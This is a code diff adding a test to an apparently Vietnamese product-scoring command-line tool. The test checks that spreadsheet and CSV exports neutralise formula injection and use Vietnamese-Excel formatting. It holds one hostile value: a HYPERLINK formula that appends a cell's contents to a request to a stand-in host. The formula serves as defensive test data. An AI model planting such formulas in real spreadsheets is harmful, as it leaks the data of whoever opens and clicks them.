@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 from decimal import Decimal
+from pathlib import Path
 
 from click.testing import CliRunner
 from openpyxl import load_workbook
@@ -80,3 +81,35 @@ def test_score_a_malformed_sheet(tmp_path):
     assert "tiêu chí 1.1 (Nguồn gốc sản phẩm) có 2 ô được đánh dấu (ô 1 và ô 3)" in result.output
     assert "không có tiêu chí '12.5' trong bộ 1" in result.output
     assert "tiêu chí 12 (CƠ HỘI THỊ TRƯỜNG TOÀN CẦU) chưa được đánh dấu ô nào" in result.output
+
+
+def test_score_table_never_carries_a_formula_and_csv_reads_in_vietnamese_excel(tmp_path):
+    """A product name typed as a formula in the sheets stays text in --bang (.xlsx and .csv)."""
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
+    sheets = []
+    for path in SHEETS:
+        text = open(path, encoding="utf-8").read().replace("name: Cam Vũ Quang", f"name: '{evil}'")
+        sheets.append(tmp_path / Path(path).name)
+        sheets[-1].write_text(text, encoding="utf-8")
+    result = run("score", *sheets, "--bang", tmp_path / "kq.xlsx")
+    assert result.exit_code == 0, result.output
+    import zipfile
+
+    with zipfile.ZipFile(tmp_path / "kq.xlsx") as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"HYPERLINK" in sheet_xml  # present as text only
+    ws = load_workbook(tmp_path / "kq.xlsx").active
+    assert (ws["B2"].value, ws["B2"].data_type, ws["B2"].quotePrefix) == (evil, "s", True)
+    assert (ws["F2"].value, ws["F2"].number_format) == (76.33, "0.00")
+    result = run("score", *sheets, "--bang", tmp_path / "kq.csv")
+    assert result.exit_code == 0, result.output
+    raw = (tmp_path / "kq.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert raw.decode("utf-8-sig").splitlines()[0] == (
+        "STT;Tên sản phẩm;Chủ thể;Địa chỉ;Bộ sản phẩm;Điểm trung bình;Hạng sao;Mã số sản phẩm;Ngày đánh giá")
+    import csv
+    import io
+
+    cells = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))[1]
+    assert cells[1].startswith("'=HYPERLINK(") and cells[5] == "76,33" and cells[6] == "4"
+    assert cells[8].count("/") == 2  # dd/mm/yyyy
